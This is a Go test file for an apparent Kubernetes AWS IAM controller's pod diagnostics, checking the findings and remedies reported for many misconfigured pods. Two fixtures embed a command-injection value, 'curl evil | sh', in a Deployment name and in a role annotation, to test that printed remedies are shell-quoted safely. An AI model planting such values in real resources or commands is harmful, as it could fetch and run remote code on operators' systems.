package chain

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"kube-aws-iam-controller/internal/admission"
	"kube-aws-iam-controller/internal/cli/finding"
)

func setEnv(name, value string) func(*testing.T, *Facts) {
	return func(_ *testing.T, f *Facts) {
		c := &f.Pod.Value.Spec.Containers[0]
		for i := range c.Env {
			if c.Env[i].Name == name {
				c.Env[i].Value = value
				return
			}
		}
		c.Env = append(c.Env, corev1.EnvVar{Name: name, Value: value})
	}
}

// unwired has the pod be given nothing.
func unwired(f *Facts) {
	f.Pod.Value.Spec.Volumes = nil
	c := &f.Pod.Value.Spec.Containers[0]
	c.Env, c.VolumeMounts = nil, nil
}

// delivered has the pod be given what another delivery takes.
func delivered(f *Facts, delivery string) {
	f.Account.Value.Annotations["iam.amazonaws.com/delivery"] = delivery
	f.issue()
	pod := f.Pod.Value
	pod.Spec.Containers[0].Env = admission.Variables(*f.Request().Injection)
	if delivery == "endpoint" {
		mounts := pod.Spec.Containers[0].VolumeMounts
		pod.Spec.Containers[0].VolumeMounts = nil
		pod.Spec.InitContainers = []corev1.Container{{Name: admission.SidecarName, RestartPolicy: new(corev1.ContainerRestartPolicyAlways), VolumeMounts: mounts}}
	}
}

func status(s corev1.ContainerStatus) func(*testing.T, *Facts) {
	return func(_ *testing.T, f *Facts) { f.Pod.Value.Status.ContainerStatuses = []corev1.ContainerStatus{s} }
}

var brokenPods = map[string]situation{
	"of a ServiceAccount that asks for nothing": {func(_ *testing.T, f *Facts) {
		f.Account.Value.Annotations, f.Askers.Value = nil, []string{"payments", "reports"}
	}, "serviceaccount", "runs as the ServiceAccount app, which asks for nothing", "payments, reports"},
	"with the annotation of kube2iam": {func(_ *testing.T, f *Facts) {
		f.Account.Value.Annotations, f.Pod.Value.Annotations = nil, map[string]string{"iam.amazonaws.com/role": "app"}
	}, "serviceaccount", "for kube2iam and kiam", "iam.amazonaws.com/role=app"},
	"opted out": {func(_ *testing.T, f *Facts) {
		f.Pod.Value.Labels = map[string]string{"iam.amazonaws.com/inject": "false"}
	}, "injection", "inject", "remove the label"},
	"static": {func(_ *testing.T, f *Facts) {
		f.Pod.Value.Annotations = map[string]string{corev1.MirrorPodAnnotationKey: "x"}
	}, "injection", "static pod", "DaemonSet"},
	"with a volume of our name": {func(_ *testing.T, f *Facts) { f.Pod.Value.Spec.Volumes[0].Secret.SecretName = "other" }, "injection", "of its own", "remove the volume"},
	"all left out": {func(_ *testing.T, f *Facts) {
		f.Pod.Value.Annotations = map[string]string{"iam.amazonaws.com/skip-containers": "main"}
	}, "injection", "names every container", "annotation"},
	"with a mount at our path": {func(_ *testing.T, f *Facts) {
		unwired(f)
		f.Pod.Value.Spec.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "data", MountPath: "/meta/./aws-iam"}}
	}, "injection", "the volume data is mounted", "elsewhere"},
	"for Windows": {func(_ *testing.T, f *Facts) {
		unwired(f)
		f.Pod.Value.Spec.OS = &corev1.PodOS{Name: corev1.Windows}
	}, "injection", "would be refused today", "create the pod again"},
	"older than the annotation": {func(_ *testing.T, f *Facts) {
		unwired(f)
		f.Account.Value.ManagedFields = []metav1.ManagedFieldsEntry{{
			Manager: "kubectl", Time: &metav1.Time{Time: now}, FieldsV1: metav1.NewFieldsV1(`{"f:metadata":{"f:annotations":{"f:iam.amazonaws.com/role":{}}}}`),
		}}
		f.Pod.Value.OwnerReferences = []metav1.OwnerReference{{Kind: "ReplicaSet", Name: "app-5d8f", Controller: new(true)}}
		f.Pod.Value.Labels = map[string]string{"pod-template-hash": "5d8f"}
	}, "injection", "before its ServiceAccount asked for a role at 2026-07-01T12:00:00Z", "kubectl rollout restart deployment/app --namespace demo"},
	"older than the credentials": {func(_ *testing.T, f *Facts) {
		unwired(f)
		f.Secret.Value.CreationTimestamp.Time = now
		f.Pod.Value.OwnerReferences = []metav1.OwnerReference{{Kind: "Job", Name: "nightly", Controller: new(true)}}
	}, "injection", "before its ServiceAccount asked", "job/nightly creates it again"},
	"passed over":                      {func(_ *testing.T, f *Facts) { unwired(f) }, "injection", "admission was not in force", "kubectl delete pod app-1"},
	"with keys":                        {setEnv("AWS_ACCESS_KEY_ID", "AKIA"), "container main", "AWS_ACCESS_KEY_ID (from env)", "remove"},
	"with a web identity":              {setEnv("AWS_WEB_IDENTITY_TOKEN_FILE", "/token"), "container main", "web identity", "remove"},
	"with a profile":                   {setEnv("AWS_PROFILE", "production"), "container main", "AWS_PROFILE", "remove"},
	"with a profile by its other name": {setEnv("AWS_DEFAULT_PROFILE", "production"), "container main", "AWS_DEFAULT_PROFILE", "remove"},
	"of a hostile owner": {func(_ *testing.T, f *Facts) {
		unwired(f)
		f.Pod.Value.OwnerReferences = []metav1.OwnerReference{{Kind: "Deployment", Name: "app; curl evil | sh", Controller: new(true)}}
	}, "injection", "admission was not in force", "kubectl rollout restart 'deployment/app; curl evil | sh' --namespace demo"},
	"of kube2iam, and hostile": {func(_ *testing.T, f *Facts) {
		f.Account.Value.Annotations = nil
		f.Pod.Value.Annotations = map[string]string{"iam.amazonaws.com/role": "app'; curl evil | sh"}
	}, "serviceaccount", "for kube2iam and kiam", `iam.amazonaws.com/role='app'\''; curl evil | sh'`},
	"with another file":   {setEnv("AWS_SHARED_CREDENTIALS_FILE", "/elsewhere"), "container main", "and not /meta/aws-iam/credentials.process", "remove"},
	"with another config": {setEnv("AWS_CONFIG_FILE", "/elsewhere"), "container main", "AWS_CONFIG_FILE", "remove"},
	"with keys in a Secret": {func(_ *testing.T, f *Facts) {
		f.Pod.Value.Spec.Containers[0].EnvFrom = []corev1.EnvFromSource{{Prefix: "AWS_", SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "keys"}}}}
		f.Keys["secret/keys"] = Fact[[]string]{Value: []string{"ACCESS_KEY_ID"}}
	}, "container main", "AWS_ACCESS_KEY_ID (from secret/keys)", "remove"},
	"with the endpoint of another": {func(t *testing.T, f *Facts) {
		t.Helper()
		delivered(f, "endpoint")
		setEnv("AWS_CONTAINER_CREDENTIALS_FULL_URI", "http://169.254.170.23/v1/credentials")(t, f)
	}, "container main", "EKS Pod Identity", "remove"},
	"with another token": {func(_ *testing.T, f *Facts) {
		delivered(f, "endpoint")
		f.Pod.Value.Spec.Containers[0].Env[1] = corev1.EnvVar{Name: "AWS_CONTAINER_AUTHORIZATION_TOKEN", Value: "x"}
	}, "container main", "is not the one of the endpoint", "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE"},
	"without a node": {func(_ *testing.T, f *Facts) {
		f.Pod.Value.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Message: "no nodes"}}
	}, "kubelet", "no nodes", "kubectl describe pod app-1"},
	"whose sidecar is not ready": {func(_ *testing.T, f *Facts) {
		delivered(f, "endpoint")
		f.Pod.Value.Status.InitContainerStatuses = []corev1.ContainerStatus{{Name: admission.SidecarName, State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{}}}}
	}, "sidecar", "not ready", "kubectl logs app-1 --namespace demo --container aws-iam-credentials"},
	"without a shell": {status(corev1.ContainerStatus{LastTerminationState: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{
		Message: "error in credential_process: exec: \"sh\": executable file not found in $PATH",
	}}}), "credential_process", "no shell", "iam.amazonaws.com/delivery=endpoint"},
	"that does not exist": {func(_ *testing.T, f *Facts) { f.Pod.Value = nil }, "pod creation", "there is no pod app-1", "kubectl get pods"},
	"refused by a quota": {func(_ *testing.T, f *Facts) {
		f.Pod.Value, f.Refused.Value = nil, []corev1.Event{event("Warning", "FailedCreate", "exceeded quota", now)}
	}, "pod creation", "not this controller's: exceeded quota", "message"},
	"refused by the guard": {func(_ *testing.T, f *Facts) {
		f.Pod.Value = nil
		f.Refused.Value = []corev1.Event{event("Warning", "FailedCreate", "ValidatingAdmissionPolicy 'kube-aws-iam-controller-guard-pods' denied request", now)}
	}, "pod creation", "guard-pods", "its own ServiceAccount"},
}

func TestTheFirstBrokenLinkOfAPod(t *testing.T) {
	for name, s := range brokenPods {
		t.Run(name, func(t *testing.T) {
			f := soundPod(t)
			s.change(t, f)
			s.assertFirst(t, Examine(f))
		})
	}
}

func TestWhatWorksAndIsStillWorthAWord(t *testing.T) {
	for name, s := range map[string]situation{
		"nothing is delivered": {func(_ *testing.T, f *Facts) {
			f.Account.Value.Annotations["iam.amazonaws.com/delivery"] = "none"
			f.issue()
		}, "injection", "delivery none", "mount the Secret"},
		"created before the region": {func(_ *testing.T, f *Facts) {
			f.Account.Value.Annotations["iam.amazonaws.com/region"] = "eu-central-1"
			f.issue()
		},
			"injection", "lacks some", "kubectl delete pod"},
		"Pod Identity beside a file":   {setEnv("AWS_CONTAINER_CREDENTIALS_FULL_URI", "http://169.254.170.23/v1/credentials"), "container main", "SDKs prefer the file", "association"},
		"a token for one service":      {setEnv("AWS_BEARER_TOKEN_BEDROCK", "ABSK"), "container main", "AWS_BEARER_TOKEN_BEDROCK (from env)", "unless"},
		"the role of the node allowed": {setEnv("AWS_EC2_METADATA_DISABLED", "false"), "container main", "role of the node", "remove"},
		"one container left out": {func(_ *testing.T, f *Facts) {
			f.Pod.Value.Annotations = map[string]string{"iam.amazonaws.com/skip-containers": "proxy"}
			f.Pod.Value.Spec.Containers = append(f.Pod.Value.Spec.Containers, corev1.Container{Name: "proxy"})
		}, "container proxy", "skip-containers", "if it needs credentials"},
		"kube2iam": {func(_ *testing.T, f *Facts) {
			f.Pod.Value.Annotations = map[string]string{"iam.amazonaws.com/role": "other"}
		}, "other tools", "does not read on pods", "remove"},
		"an unknown annotation": {func(_ *testing.T, f *Facts) { f.Account.Value.Annotations["iam.amazonaws.com/regoin"] = "x" }, "annotations", "did you mean iam.amazonaws.com/region", "kubectl edit"},
		"a kubelet that has not looked again": {func(_ *testing.T, f *Facts) {
			f.Pod.Value.Status.Phase = corev1.PodPending
			f.PodEvents.Value = []corev1.Event{event("Warning", "FailedMount", `secret "app.aws-iam" not found`, now)}
		}, "kubelet", "not looked for the Secret again", "two minutes"},
		"a program that fails first": {func(_ *testing.T, f *Facts) {
			f.Pod.Value.Status.InitContainerStatuses = []corev1.ContainerStatus{{Name: "migrate", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}}}}
		}, "kubelet", "the container migrate does not run: CrashLoopBackOff", "kubectl describe"},
		"a pod that waits for something else": {func(_ *testing.T, f *Facts) {
			f.Pod.Value.Status.Phase = corev1.PodPending
			f.PodEvents.Value = []corev1.Event{event("Warning", "FailedMount", `configmap "settings" not found`, now), event("Normal", "Scheduled", "to a node", now)}
		}, "kubelet", `pending for 60m: FailedMount: configmap "settings" not found`, "kubectl describe"},
		"a pod that is going":       {func(_ *testing.T, f *Facts) { f.Pod.Value.DeletionTimestamp = &metav1.Time{Time: now} }, "kubelet", "is being deleted", "kubectl get pods"},
		"a file that old SDKs read": {setEnv("AWS_CREDENTIAL_PROFILES_FILE", "/elsewhere"), "container main", "AWS_CREDENTIAL_PROFILES_FILE", "remove"},
		"a program that fails": {status(corev1.ContainerStatus{Name: "main", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}}}),
			"kubelet", "CrashLoopBackOff", "kubectl describe"},
	} {
		t.Run(name, func(t *testing.T) {
			f := soundPod(t)
			s.change(t, f)
			findings := Examine(f)
			found := byCheck(t, findings, s.check)
			assert.Nil(t, FirstBroken(findings))
			assert.Equal(t, finding.Warning, found.State)
			assert.Contains(t, found.Message, s.message)
			assert.Contains(t, found.Remedy, s.remedy)
		})
	}
}

func TestTheValueOfAVariableIsNeverSaid(t *testing.T) {
	const secret = "wJalrXUtnFEMI"
	for _, name := range []string{"AWS_ACCESS_KEY_ID", "AWS_PROFILE", "AWS_WEB_IDENTITY_TOKEN_FILE", "AWS_CONFIG_FILE", "AWS_CONTAINER_CREDENTIALS_FULL_URI", "AWS_EC2_METADATA_DISABLED", "AWS_BEARER_TOKEN_BEDROCK"} {
		f := soundPod(t)
		setEnv(name, secret)(t, f)
		for _, found := range Examine(f) {
			assert.NotContains(t, found.Message+found.Remedy, secret, name)
		}
	}
}

func TestKeysThatMayNotBeSeenAreUnknown(t *testing.T) {
	f := soundPod(t)
	f.Pod.Value.Spec.Containers[0].EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "keys"}}}}
	f.Keys["secret/keys"] = Fact[[]string]{Unknown: "you may not get secrets in demo"}
	found := byCheck(t, Examine(f), "container main")
	assert.Equal(t, finding.Unknown, found.State)
	assert.Contains(t, found.Message, "you may not get secrets in demo")
}

func TestThePodsOfAnIdentityAreListed(t *testing.T) {
	f := soundAccount(t)
	old, ended := *soundPod(t).Pod.Value, *soundPod(t).Pod.Value
	old.Name, ended.Name = "old", "ended"
	old.Spec = corev1.PodSpec{ServiceAccountName: "app", Containers: []corev1.Container{{Name: "main"}}}
	ended.Status.Phase = corev1.PodSucceeded
	other := corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "other"}}
	f.Pods.Value = append(f.Pods.Value, old, ended, other)
	findings := Examine(f)
	assert.Equal(t, "was given credentials", byCheck(t, findings, "pod app-1").Message)
	assert.Equal(t, finding.Broken, byCheck(t, findings, "pod old").State)
	for _, found := range findings {
		assert.NotContains(t, []string{"pod ended", "pod other"}, found.Check)
	}
	for range maxPods + 10 {
		f.Pods.Value = append([]corev1.Pod{*soundPod(t).Pod.Value}, f.Pods.Value...)
	}
	assert.Equal(t, finding.Broken, byCheck(t, Examine(f), "pod old").State, "trouble comes first")
	assert.Contains(t, byCheck(t, Examine(f), "pods").Message, "12 more")
}

func TestAPodThatMountsTheSecretOfAnAWSIAMRole(t *testing.T) {
	mounting := func(mounts []corev1.VolumeMount, file string) finding.Finding {
		f := soundRole(t)
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "demo", Name: "app-1", CreationTimestamp: metav1.Time{Time: now.Add(-time.Hour)}}}
		pod.Spec.Volumes = []corev1.Volume{{Name: "credentials", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "app"}}}}
		pod.Spec.Containers = []corev1.Container{{Name: "main", VolumeMounts: mounts, Env: []corev1.EnvVar{{Name: "AWS_SHARED_CREDENTIALS_FILE", Value: file}}}}
		f.PodName, f.Pod.Value = pod.Name, pod
		return byCheck(t, Examine(f), "mount")
	}
	at := []corev1.VolumeMount{{Name: "credentials", MountPath: "/meta/aws-iam/"}}
	assert.Equal(t, finding.OK, mounting(at, "/meta/aws-iam/credentials.process").State)
	assert.Contains(t, mounting(nil, "/meta/aws-iam/credentials.process").Message, "no container mounts it")
	assert.Contains(t, mounting(at, "/root/.aws/credentials").Message, "no variable points SDKs at it")
}
